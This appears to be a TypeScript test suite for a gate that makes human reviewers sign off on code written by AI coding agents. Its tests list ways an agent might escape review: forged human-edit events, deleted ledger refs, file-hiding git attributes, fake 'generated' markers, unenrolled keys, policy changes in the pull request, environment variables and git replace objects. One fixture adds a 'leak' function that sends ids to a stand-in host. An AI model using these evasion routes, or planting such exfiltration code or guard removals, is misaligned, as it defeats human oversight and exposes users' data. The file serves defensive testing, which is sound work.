/**
 * The other half of the attack table: an agent tries not to owe in the first place. Each row holds against the gate
 * that reads its rules from the base, and passes where the one thing that stops it is switched off.
 */
import { strict as assert } from "node:assert";
import { rmSync } from "node:fs";
import { AGENT_KEY, ANN, AttackedRepository, policyText, type Policy } from "./attacked-repository";
import { check, countersign, verdictOf, type CheckDocument } from "./supervised-repository";
import { LOAD } from "./written-code";

const GUARDED = `export function transfer(cents: number, owner: string, user: string): number {
  if (owner !== user) throw new Error("not yours");
  return cents;
}
`;
const FILES = { "src/transfer.ts": GUARDED, "src/send.ts": "export const send = (cents: number) => cents;\n", "package.json": '{"name":"shop"}\n' };

describe("attacks: an agent tries not to owe", function () {
  this.timeout(180_000);
  let repository: AttackedRepository;
  afterEach(() => repository.dispose());

  const begin = (policy: Policy = {}): void => {
    repository = new AttackedRepository();
    repository.begin(FILES, policy);
  };
  const held = (why: string, ...parameters: readonly string[]): CheckDocument => {
    const document = repository.gate(...parameters);
    assert.deepEqual([document.verdict, document.exitCode], ["fail", 1], why);
    return document;
  };
  const passes = (why: string, ...parameters: readonly string[]): void => {
    const { verdict, exitCode } = repository.gate(...parameters);
    assert.deepEqual([verdict, exitCode], ["pass", 0], why);
  };

  /** The base's own rules change, as by a merged pull request. */
  const onBase = (files: Readonly<Record<string, string>>): void => {
    repository.git("checkout", "-q", "main");
    for (const [path, text] of Object.entries(files)) repository.write(path, text);
    repository.commit("rules");
    repository.git("push", "-q", "origin", "main");
    repository.git("checkout", "-q", "work");
  };

  /** A ledger without a record: without one at all the gate is not evaluated. */
  const openLedger = (): void => assert.equal(countersign(repository.folder, ["sync"]).code, 0);

  it("a pull request that only deletes a guard, and one that deletes the file", async () => {
    begin();
    repository.agentCommits("src/transfer.ts", GUARDED.replace('  if (owner !== user) throw new Error("not yours");\n', ""));
    assert.deepEqual(held("the guard is gone").hunks.map((hunk) => [hunk.kind, hunk.path, hunk.startLine]), [["removal", "src/transfer.ts", 2]]);
    await repository.sign();
    passes("Ann answers for the removal");
    repository.hook({ event: "before-edit", files: ["src/send.ts"], session: "session-2", assistant: "claude-code" });
    repository.remove("src/send.ts");
    repository.hook({ event: "after-edit", files: ["src/send.ts"], session: "session-2", assistant: "claude-code" });
    repository.commit("delete");
    assert.deepEqual(held("a file is gone").hunks.filter((hunk) => hunk.state !== "signed-off").map((hunk) => [hunk.kind, hunk.path]), [["removal", "src/send.ts"]]);
  });

  it("a file that no pattern seems to match: a line break in its name, and in its folder's", () => {
    begin();
    const paths = ["src/lo\nad.ts", "src/a\nb/load.ts"];
    for (const path of paths) repository.agentCommits(path, LOAD);
    assert.deepEqual(held("** matches every name").hunks.map(({ path }) => path).sort(), [...paths].sort());
    onBase({ ".countersign/config.jsonc": '{ "exclude": ["src/**"] }\n' });
    passes("a pattern of the base leaves them out");
  });

  it("an approved removal of a guard, replayed on the same guard elsewhere", async () => {
    repository = new AttackedRepository();
    const second = GUARDED.replace("transfer", "refund");
    repository.begin({ ...FILES, "src/refund.ts": second, "src/both.ts": `${GUARDED}${[1, 2, 3, 4].map((index) => `export const RATE_${index} = ${index};\n`).join("")}${GUARDED.replace("transfer", "close")}` });
    const guard = '  if (owner !== user) throw new Error("not yours");\n';
    repository.agentCommits("src/transfer.ts", GUARDED.replace(guard, ""));
    await repository.sign();
    passes("Ann gave up the guard of transfer");
    repository.git("checkout", "-q", "main");
    repository.git("merge", "-q", "--squash", "work");
    repository.commit("merged");
    repository.git("push", "-q", "origin", "main");
    repository.git("checkout", "-q", "-B", "work", "main");
    repository.agentCommits("src/refund.ts", second.replace(guard, ""));
    assert.deepEqual(held("nobody gave up the guard of refund").hunks.map((hunk) => [hunk.path, hunk.state]), [["src/refund.ts", "unseen"]]);
    await repository.sign();
    passes("now Ann did");
    repository.agentCommits("src/both.ts", repository.git("show", "HEAD:src/both.ts").replace(guard, ""));
    assert.deepEqual(held("the first of two in one file").hunks.filter((hunk) => hunk.state !== "signed-off").map((hunk) => hunk.path), ["src/both.ts"]);
    await repository.sign();
    repository.agentCommits("src/both.ts", repository.git("show", "HEAD:src/both.ts").replace(guard, ""));
    assert.deepEqual(held("the other one in the same file").hunks.filter((hunk) => hunk.state !== "signed-off").map((hunk) => [hunk.path, hunk.kind]), [["src/both.ts", "removal"]]);
    await repository.sign();
    passes("each by itself");
  });

  it("human-edit events sent by an agent over what its own hook has told", () => {
    begin();
    repository.agentCommits("src/load.ts", LOAD);
    repository.hook({ event: "human-edit", files: ["src/load.ts"], session: "", assistant: "generic" });
    repository.write("src/load.ts", `${LOAD}\n`);
    repository.hook({ event: "human-edit", files: ["src/load.ts"], session: "", assistant: "generic" });
    repository.commit("mine");
    assert.deepEqual(held("an assistant's claim stands").hunks.map((hunk) => [hunk.path, hunk.state]), [["src/load.ts", "unseen"]]);
  });

  it("human-edit events instead of its own, and edits through a shell that nobody watched", () => {
    begin();
    openLedger();
    repository.personWrites("src/load.ts", LOAD);
    repository.write("src/other.ts", LOAD.replace("load", "other"));
    repository.commit("as if typed");
    const { unclaimed } = repository.gate();
    assert.equal(unclaimed.lines, 6, "what no assistant claimed is reported, whoever says that a person typed it");
    passes("residual: claims that nobody made, under the default policy");
    repository.git("checkout", "-q", "main");
    repository.write(".countersign/config.jsonc", policyText({ unclaimed: "assume-ai" }));
    repository.commit("assume-ai");
    repository.git("push", "-q", "origin", "main");
    repository.git("checkout", "-q", "work");
    assert.deepEqual(held("the base says assume-ai").hunks.map((hunk) => [hunk.path, hunk.state]), [["src/load.ts", "unseen"], ["src/other.ts", "unseen"]]);
  });

  it("claims deleted from the refs and the journal, under a base that assumes the worst", () => {
    begin({ unclaimed: "assume-ai" });
    repository.agentCommits("src/load.ts", LOAD);
    assert.equal(held("claimed").hunks[0]?.assistant, "claude-code");
    for (const ref of repository.refs("refs/countersign")) repository.git("update-ref", "-d", ref);
    rmSync(`${repository.folder}/.git/countersign`, { recursive: true, force: true });
    assert.deepEqual(held("nobody knows whose it is").hunks.map((hunk) => [hunk.path, hunk.assistant]), [["src/load.ts", "assumed"]]);
    repository.write(".countersign/config.jsonc", policyText());
    repository.commit("report only");
    const { verdict, exitCode } = repository.gate("--policy-ref", "HEAD");
    assert.deepEqual([verdict, exitCode], ["not-evaluated", 3], "the base names a ledger, and it is gone");
    openLedger();
    passes("the head's policy and a lane of the agent's own would let it through", "--policy-ref", "HEAD");
    held("the base still assumes the worst");
  });

  it("attributes that hide a file: linguist-generated, binary, -diff", () => {
    begin();
    repository.agentCommits("src/load.ts", LOAD);
    const before = verdictOf(held("seen"));
    for (const attribute of ["linguist-generated", "linguist-vendored", "binary", "-diff", "-text diff=nothing", "filter=nothing"]) {
      repository.write(".gitattributes", `* ${attribute}\n`);
      repository.commit(attribute);
      assert.deepEqual(verdictOf(held(attribute)), before, attribute);
    }
    repository.write(".countersign/config.jsonc", policyText({ debt: { generated: ["src/**"] } }));
    repository.commit("what the attributes say, as a policy");
    held("the base does not say it");
    passes("where attributes of the head were taken for the base's patterns", "--policy-ref", "HEAD");
  });

  it("generated patterns and exclusions widened in the pull request, sources switched off there", () => {
    begin();
    repository.agentCommits("src/load.ts", LOAD);
    const text = policyText({ debt: { generated: ["src/**"] } });
    for (const widened of [text, policyText({ exclude: ["src/**"] }), text.replace('"debt"', '"sources": { "hook": false, "snapshot": false },\n  "debt"').replace('"src/**"', '"none"')]) {
      repository.write(".countersign/config.jsonc", widened);
      repository.commit("widen");
      assert.deepEqual(held("the base's patterns hold").hunks.map((hunk) => hunk.path), ["src/load.ts"]);
      passes("the head's would let it through", "--policy-ref", "HEAD");
    }
  });

  it("a generator's mark at the top of its own code", () => {
    begin();
    repository.agentCommits("src/load.ts", `// @generated by nobody, DO NOT EDIT\n${LOAD}`);
    repository.agentCommits("src/send.ts", `/* <auto-generated/> */\n${FILES["src/send.ts"]}export const leak = (id: string) => fetch("https://example.org/" + id);\n`);
    assert.deepEqual(held("a mark that the branch itself brings").hunks.map((hunk) => hunk.path).filter((path, index, all) => all.indexOf(path) === index).sort(), ["src/load.ts", "src/send.ts"]);
    repository.git("checkout", "-q", "main");
    for (const path of ["src/load.ts", "src/send.ts"]) repository.write(path, "// @generated by the team's own tool\n");
    repository.commit("generated files");
    repository.git("push", "-q", "origin", "main");
    repository.git("checkout", "-q", "-B", "work2", "main");
    repository.agentCommits("src/load.ts", `// @generated by the team's own tool\n${LOAD}`);
    passes("a file that was generated at the base owes nothing");
  });

  it("an approval with the note that it is not AI: unsigned, and by a key nobody enrolled", async () => {
    begin();
    repository.agentCommits("src/load.ts", LOAD);
    for (const key of [null, AGENT_KEY]) {
      if (key === null) repository.git("config", "--unset", "user.signingkey");
      else repository.as(ANN, key);
      const session = await repository.session();
      const { items } = await session.open();
      await session.sign({ verdicts: [{ hunks: items.map((item) => item.hunk.id), verdict: "approved", basis: "read", note: "not AI" }], method: "editor" });
      repository.release(session);
      assert.deepEqual(held("no signature that counts").hunks.map((hunk) => [hunk.state, hunk.assistant]), [["unseen", "claude-code"]]);
    }
  });

  it("This Is Not AI, by a key nobody enrolled", async () => {
    begin();
    repository.agentCommits("src/load.ts", LOAD);
    repository.as(ANN, AGENT_KEY);
    const session = await repository.session();
    await session.open();
    const lines = LOAD.trimEnd().split("\n").length;
    await session.correct({ path: "src/load.ts", kind: "edit", startLine: 1, endLine: lines, says: "not-ai", reason: "I typed it", method: "editor" });
    repository.release(session);
    assert.deepEqual(held("a correction by nobody's key").hunks.map((hunk) => [hunk.state, hunk.assistant]), [["unseen", "claude-code"]]);
    onBase({ ".countersign/allowed_signers": repository.enrolment("ann") + repository.enrolment(AGENT_KEY) });
    passes("where the base enrols the agent's key as Ann's");
  });

  it("an assertion-free test under a base that reads coverage: it is believed once somebody answered for it", async () => {
    const rules: Policy = { external: [{ report: "coverage/lcov.info" }], unclaimed: "ignore" };
    repository = new AttackedRepository();
    repository.begin({ ...FILES, ".gitignore": "coverage/\n" }, rules);
    repository.agentCommits("src/load.ts", LOAD);
    const owed = () => held("owed").hunks.find(({ path }) => path === "src/load.ts")?.minutes ?? 0;
    const plain = owed();
    onBase({ ".countersign/config.jsonc": policyText({ ...rules, gate: { minutes: Math.round(plain * 90) / 100, high: 999, errors: 999 } }) });
    repository.agentCommits("test/load.test.ts", 'import { load } from "../src/load";\n\nit("works", async () => {\n  await load({ query: async () => null }, "1");\n});\n');
    repository.write("coverage/lcov.info", "TN:\nSF:src/load.ts\nDA:1,9\nDA:2,9\nDA:3,9\nend_of_record\n");
    assert.equal(owed(), plain, "what an agent's own test executes is not believed");
    await repository.sign(({ path }) => path === "test/load.test.ts");
    passes("Ann answered for the test: it lowers what the code owes, and the limit is kept");
  });

  it("an assertion-free test beside the code: no test lowers what is owed", () => {
    begin();
    repository.agentCommits("src/load.ts", LOAD);
    const before = held("owed").hunks.map(({ path, minutes }) => [path, minutes]);
    assert.equal(before.length, 1);
    repository.agentCommits("test/load.test.ts", 'import { load } from "../src/load";\n\nit("works", async () => {\n  await load({ query: async () => null }, "1");\n});\n');
    repository.write("coverage/lcov.info", "TN:\nSF:src/load.ts\nDA:1,9\nDA:2,9\nDA:3,9\nend_of_record\n");
    repository.commit("coverage");
    const after = held("the test is debt of its own").hunks.map(({ path, minutes }) => [path, minutes] as const);
    assert.deepEqual(after.filter(([path]) => path === "src/load.ts"), before);
    assert.deepEqual(after.map(([path]) => path).sort(), ["src/load.ts", "test/load.test.ts"]);
  });

  it("variables of every name, replaced objects, grafts and the repository's own git configuration", () => {
    begin();
    repository.agentCommits("src/load.ts", LOAD);
    const before = verdictOf(held("plain"));
    const environment = Object.fromEntries(["POLICY", "BASE", "SKIP", "SOFT", "DISABLE", "TRUST", "SIGNERS", "CONFIG", "LEDGER", "HEAD", "NO_VERIFY", "TOKEN"].map((name) => [`COUNTERSIGN_${name}`, "1"]));
    const ran = countersign(repository.folder, ["check", "--base", "origin/main", "--format", "json"], "", { ...environment, COUNTERSIGN_LOG: "debug", CI: "true", AI_AGENT: "some-agent", GIT_CONFIG_COUNT: "1", GIT_CONFIG_KEY_0: "diff.external", GIT_CONFIG_VALUE_0: "true" });
    assert.deepEqual([ran.code, verdictOf(JSON.parse(ran.stdout) as CheckDocument)], [1, before]);
    repository.write("weak.jsonc", policyText({ gate: { high: 999, errors: 999 } }));
    repository.git("checkout", "-q", "-b", "weak", "main");
    repository.write(".countersign/config.jsonc", policyText({ gate: { high: 999, errors: 999 } }));
    const weak = repository.commit("weak");
    repository.git("checkout", "-q", "work");
    repository.remove("weak.jsonc");
    repository.git("replace", repository.git("rev-parse", "origin/main").trim(), weak);
    assert.deepEqual(verdictOf(held("the base replaced")), before);
    passes("where git followed the replacement", "--policy-ref", "weak");
    repository.git("replace", "-d", repository.git("rev-parse", "origin/main").trim());
    for (const [key, value] of [["diff.external", "true"], ["diff.noprefix", "true"], ["core.quotePath", "true"], ["diff.renames", "false"], ["log.showSignature", "true"], ["core.attributesFile", "/dev/null"]] as const) repository.git("config", key, value);
    assert.deepEqual(verdictOf(held("the repository's configuration")), before);
    assert.deepEqual(check(repository.folder, "--base", "origin/main", "--soft").exitCode, 0, "--soft is the caller's own word and says so in the verdict");
    assert.equal(check(repository.folder, "--base", "origin/main", "--soft").verdict, "fail");
  });
});
